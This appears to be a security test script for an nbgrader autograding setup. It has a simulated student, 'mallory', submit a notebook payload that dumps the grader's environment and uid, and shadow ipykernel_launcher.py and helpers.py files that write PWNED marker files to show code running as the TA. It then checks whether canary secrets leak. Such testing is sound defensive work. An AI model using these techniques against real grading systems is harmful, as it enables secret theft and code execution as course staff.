"""a05: the TA runs nbgrader's own `nbgrader autograde ps1_memory` in the course folder (the command nbgrader's docs
give; make grade wraps it), as root with the canaries. Formgrader's button is refused, but the CLI is guarded only by
'ResilientExecute is in the list'. Does it keep make grade's other protections? mallory hands in, beside her
notebook, an `ipykernel_launcher.py` and `helpers.py` (round 36: copied into autograded/, run as the TA by a kernel she
started there) and a `.pdbrc`; her notebook prints its environment, cwd listing and uid. Controls aaron, zoe."""
import os, subprocess, glob
from harness import *
d = course("a05")
payload = r'''
import os, json
print("A05ENV", json.dumps(dict(os.environ))[:3000])
print("A05CWD", os.getcwd(), sorted(os.listdir(".")), os.getuid())
'''
for s in ("aaron", "zoe"):
    hand_in(d, s, "ps1_memory", nb_for("ps1_memory"))
p = hand_in(d, "mallory", "ps1_memory", nb_for("ps1_memory", with_payload("ps1_memory", "quiz_q1", payload)))
open(f"{p}/ipykernel_launcher.py", "w").write("import os; open('/tmp/a05-PWNED-by-launcher','w').write(str(os.getuid()))\n")
open(f"{p}/helpers.py", "w").write("import os; open('/tmp/a05-PWNED-by-helpers','w').write(str(os.getuid()))\n")
open(f"{p}/.pdbrc", "w").write("import os\n")
g = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "generate_assignment", "ps1_memory", "--force"], cwd=d, env=ENV, capture_output=True, text=True)
print("generate_assignment rc", g.returncode, (g.stdout+g.stderr)[-600:])
t = time.time()
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "autograde", "ps1_memory"], cwd=d, env=ENV, capture_output=True, text=True, timeout=900)
print("nbgrader autograde rc", r.returncode, f"{time.time()-t:.1f}s")
print((r.stdout + r.stderr)[-2500:])
print("autograded/mallory files:", sorted(os.listdir(f"{d}/autograded/mallory/ps1_memory")) if os.path.isdir(f"{d}/autograded/mallory/ps1_memory") else None)
o = outputs(d, "mallory", "ps1_memory")
for tag in ("A05ENV", "A05CWD"):
    i = o.find(tag); print(o[i:i+1500] if i >= 0 else f"{tag} not found")
print("canary in outputs:", "AKIASECRET" in o or "ta:secret" in o)
scores(d, "ps1_memory")
print("pwned files:", glob.glob("/tmp/a05-PWNED*"))
